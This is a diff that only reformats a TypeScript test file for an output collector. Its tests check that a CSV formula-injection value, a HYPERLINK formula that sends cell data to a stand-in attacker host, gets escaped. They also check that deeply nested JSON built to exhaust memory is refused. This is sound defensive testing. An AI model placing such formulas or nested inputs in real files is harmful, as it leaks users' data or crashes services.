@@ -45,7 +45,9 @@ describe('collectOutput accepts', () => {
     await putResult();
     await put('artifacts/posts.csv', 'text,likes\n=HYPERLINK("https://evil.example/?"&A1),3\n@friend hi,-2\n');
     const collected = await collectOutput(dir, LIMITS);
-    expect(collected.ok && collected.artifacts).toEqual([{ name: 'posts.csv', bytes: Buffer.from('text,likes\n\'=HYPERLINK("https://evil.example/?"&A1),3\n\'@friend hi,-2\n') }]);
+    expect(collected.ok && collected.artifacts).toEqual([
+      { name: 'posts.csv', bytes: Buffer.from('text,likes\n\'=HYPERLINK("https://evil.example/?"&A1),3\n\'@friend hi,-2\n') },
+    ]);
   });
 
   it('exactly the file cap and exactly the byte cap', async () => {
@@ -186,10 +188,17 @@ describe('collectOutput refuses', () => {
     // The shape that exhausted the worker's heap at 4 MiB, at the 64 KiB cap of these limits.
     const row = Array.from({ length: 20 }, () => '0').join(',');
     const values = `${`[${row},`.repeat(249)}[${row}]${']'.repeat(249)}`;
-    const text = `{"schemaVersion":1,"summary":"x","blocks":[{"type":"chart","title":"t","spec":{"mark":"bar","data":{"values":${values}}}}]}`.slice(0, LIMITS.resultMaxBytes);
+    const text = `{"schemaVersion":1,"summary":"x","blocks":[{"type":"chart","title":"t","spec":{"mark":"bar","data":{"values":${values}}}}]}`.slice(
+      0,
+      LIMITS.resultMaxBytes,
+    );
     await put('result.json', text);
     const collected = await collectOutput(dir, LIMITS);
-    expect(collected).toEqual({ ok: false, reason: 'output_invalid', message: expect.stringMatching(/^result\.json is nested more than 72 levels deep \(at position \d+\)$/) });
+    expect(collected).toEqual({
+      ok: false,
+      reason: 'output_invalid',
+      message: expect.stringMatching(/^result\.json is nested more than 72 levels deep \(at position \d+\)$/),
+    });
   });
 
   it('a result the schema refuses, naming each path', async () => {
